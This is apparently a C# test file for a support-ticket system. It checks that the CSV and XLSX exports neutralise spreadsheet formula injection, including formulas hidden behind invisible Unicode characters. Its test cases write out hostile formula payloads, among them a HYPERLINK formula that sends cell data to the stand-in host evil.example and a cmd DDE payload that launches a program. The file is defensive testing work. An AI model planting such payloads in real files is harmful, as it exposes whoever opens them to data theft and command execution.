using System.Globalization;
using DocumentFormat.OpenXml.Spreadsheet;
using Microsoft.EntityFrameworkCore;
using SupportTickets.Access;
using SupportTickets.Access.People;
using SupportTickets.Export;
using SupportTickets.Tests.Fixtures;
using SupportTickets.Tickets;

namespace SupportTickets.Tests.Export;

/// <summary>A text that looks like a formula is run by no spreadsheet that opens the file.</summary>
public sealed class FormulaTests
{
    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Fact]
    public async Task A_text_that_a_spreadsheet_could_run_is_harmless_in_csv_and_as_it_was_in_xlsx()
    {
        await using var desk = await Desk.StartAsync(Provider.Sqlite);
        (string Text, string Csv)[] cases =
        [
            ("=1+1", "'=1+1"),
            ("+1", "'+1"),
            ("-1", "'-1"),
            ("@SUM(1)", "'@SUM(1)"),
            ("＝1", "'＝1"),
            ("＋1", "'＋1"),
            ("－1", "'－1"),
            ("＠a", "'＠a"),
            ("−1", "'−1"),
            ("=HYPERLINK(\"https://evil.example?x=\"&A1,\"ok\")", "'=HYPERLINK(\"https://evil.example?x=\"&A1,\"ok\")"),
            ("\"=1", "'\"=1"),
            ("'=1", "''=1"),
            ("a,=1", "a,'=1"),
            ("a;=cmd|' /C calc'!A0", "a;'=cmd|' /C calc'!A0"),
            ("a\t+1", "a\t'+1"),
            ("a; \"@x", "a;' \"@x"),
            ("one\n=two", "one\n'=two"),
            ("one\r=two", "one\r'=two"),
            ("1+1=2 a-b a@b.example", "1+1=2 a-b a@b.example"),
            ("plain", "plain"),
            ("_x003D_1+1", "_x003D_1+1"),
            ("a\u0001b\u0008\uFFFF", "a\u0001b\u0008\uFFFF"),
            ("😀 tail", "😀 tail"),
        ];
        foreach (var (text, _) in cases) await desk.AddTicketAsync(text, text);
        var csv = ExportFile.ReadCsv(await ExportFile.FromAsync(desk, "/tickets/export.csv?sort=created"));
        Assert.Equal(cases.Select(c => c.Csv), csv.Skip(1).Select(row => row[1]));
        Assert.Equal(cases.Select(c => c.Csv), csv.Skip(1).Select(row => row[2]));

        var xlsx = await ExportFile.FromAsync(desk, "/tickets/export.xlsx?sort=created");
        Assert.Equal(
            cases.Select(c => c.Text.Replace('\u0001', '\uFFFD').Replace('\u0008', '\uFFFD').Replace('\uFFFF', '\uFFFD')),
            ExportFile.ReadXlsx(xlsx)[0].Skip(1).Select(row => row[1]));
        var cells = ExportFile.Cells(xlsx);
        Assert.DoesNotContain(cells, cell => cell.Cell.CellFormula is not null);
        // Typed as text, and in the text format, so that it stays one when somebody edits it.
        var texts = cells.Where(cell => cell.Cell.CellReference!.Value is ['B' or 'C', .. var row] && row != "1").ToList();
        Assert.Equal(2 * cases.Length, texts.Count);
        Assert.All(texts, cell => Assert.Equal((CellValues.InlineString, "@"), (cell.Cell.DataType!.Value, cell.Format)));
    }

    [Fact]
    public void Whatever_is_not_seen_before_a_formula_hides_none()
    {
        UnicodeCategory[] unseen =
        [
            UnicodeCategory.Format, UnicodeCategory.Control, UnicodeCategory.SpaceSeparator, UnicodeCategory.LineSeparator,
            UnicodeCategory.ParagraphSeparator,
        ];
        // Of other kinds, but ignorable by the standard, or blank.
        int[] ignorable =
        [
            0x034F, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x180B, 0x180C, 0x180D, 0x180F, 0x2065, 0x2800, 0x3164, 0xFFA0, 0xFFF0, 0xFFF8,
            .. Enumerable.Range(0xFE00, 16), .. Enumerable.Range(0xE0000, 0x1000),
        ];
        // Tabs and line breaks begin a cell themselves; see below.
        var hidden = Enumerable.Range(0, 0x110000).Where(n => n is (< 0xD800 or > 0xDFFF) and not ('\t' or '\r' or '\n'))
            .Where(n => unseen.Contains(CharUnicodeInfo.GetUnicodeCategory(n))).Concat(ignorable)
            .Select(char.ConvertFromUtf32).Distinct().ToList();
        Assert.InRange(hidden.Count, 4200, 4500);
        foreach (var c in hidden)
        {
            foreach (var start in (string[])["=", "+", "-", "@", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"])
            {
                foreach (var prefix in (string[])[c, c + c, " " + c, c + " \u200B", "'" + c])
                    AssertHarmless($"{prefix}{start}1+1");
            }
            AssertHarmless($"{c}=1", "a;");
            Assert.Equal($"a{c}=1", CsvFile.Harmless($"a{c}=1").Replace("'", "")); // in the middle of a word nothing is lost
        }
        // However many there are of them.
        AssertHarmless(new string('\u200B', 1_000_000) + "=1");
        Assert.Equal(1_000_000, CsvFile.Harmless(new string('\u200B', 1_000_000)).Length);
        Assert.Equal(1_000_001, CsvFile.Harmless(new string('\n', 1_000_000)).Length);

        static void AssertHarmless(string text, string before = "")
        {
            var harmless = CsvFile.Harmless(before + text);
            var named = string.Join(' ', (before + text).EnumerateRunes().Take(5).Select(r => $"U+{r.Value:X4}"));
            Assert.True(harmless.StartsWith(before + "'", StringComparison.Ordinal), named);
            Assert.Equal(before + text, harmless.Replace("'", "").Insert(0, text.StartsWith('\'') ? "'" : ""));
        }
    }

    [Theory, Providers]
    public async Task A_hidden_formula_is_harmless_in_the_file_in_every_column_of_text(Provider provider)
    {
        await using var desk = await Desk.StartAsync(provider, settings: ("ACCESS", "closed"));
        var agent = await desk.AddPersonAsync(Role.agent, "Ada");
        foreach (var hidden in (string[])["\u200B", "\uFEFF", "\u2060", "\u00AD", "\u180E", "\u001F", "\u2800", "\U000E0041"])
            await desk.AddTicketAsync($"{hidden}=1+1", $"{hidden}\uFF20SUM(1)");
        await using (var db = desk.Database.Open())
        {
            await db.People.ExecuteUpdateAsync(set => set.SetProperty(p => p.Name, "\u200B=1+1"), Cancel);
            await db.Tickets.ExecuteUpdateAsync(set => set.SetProperty(t => t.AssigneeId, agent.Id), Cancel);
        }
        using var client = await desk.SignedInAsync(Role.viewer);
        var rows = ExportFile.ReadCsv(await client.GetByteArrayAsync("/tickets/export.csv", Cancel)).Skip(1).ToList();
        Assert.Equal(8, rows.Count);
        foreach (var row in rows)
            Assert.All((int[])[1, 2, 15], column => Assert.StartsWith("'", row[column]));
    }

    [Theory]
    [InlineData("\tx", "'\tx")]
    [InlineData("\r\nx", "'\r\nx")]
    [InlineData("", "")]
    [InlineData("a,b;c", "a,b;c")]
    public void A_cell_that_begins_with_a_tab_or_a_line_break_is_harmless_too(string text, string csv) =>
        Assert.Equal(csv, CsvFile.Harmless(text));
}
